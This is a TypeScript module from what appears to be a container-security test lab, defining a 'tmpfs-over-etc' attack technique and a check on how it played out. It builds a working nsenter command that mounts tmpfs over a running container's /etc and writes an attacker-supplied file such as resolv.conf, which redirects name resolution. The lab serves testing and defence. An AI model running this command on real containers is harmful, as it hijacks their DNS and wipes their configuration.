/**
 * Attack: root on the node mounts an empty tmpfs over a running container's
 * /etc from inside its mount namespace and writes its own configuration
 * file there (the target path, e.g. /etc/resolv.conf: name resolution now
 * goes where the attacker says). Everything else in /etc disappears too.
 */
import { dirname } from 'node:path';
import { LabError } from '../../errors.ts';
import type { Technique } from '../technique.ts';
import { requirePath, requirePayload, type AttackErrorCode } from './common.ts';
import { attackerRuns, judgeOvermount, mountinfoOf, targetOf } from './overmount.ts';

export const tmpfsOverEtc: Technique = {
  name: 'tmpfs-over-etc',
  async run(ctx) {
    const { node, attack } = ctx;
    const path = requirePath(attack);
    if (dirname(path) !== '/etc') {
      throw new LabError<AttackErrorCode>('ATTACK_SPEC_INCOMPLETE', `attack "${attack.metadata.name}": technique tmpfs-over-etc needs spec.target.path directly in /etc, got ${path}`);
    }
    const payload = Buffer.from(requirePayload(attack), 'utf8');
    const target = await targetOf(ctx);
    const mountinfoBefore = await mountinfoOf(node, target.pid);
    // One shell in the container's namespace mounts and writes: the write
    // lands even if the container is stopped in between (the shell keeps the
    // namespace alive), as a scripted attacker's would.
    const command = ['nsenter', '-t', String(target.pid), '-m', '--', '/bin/sh', '-c', `mount -t tmpfs -o size=1m tmpfs /etc && cat > ${path}`];
    const startedAt = Date.now();
    await attackerRuns(node, command, payload);
    const doneAt = Date.now();
    return judgeOvermount(ctx, { target, path, payload, command, mountinfoBefore, startedAt, doneAt });
  },
};
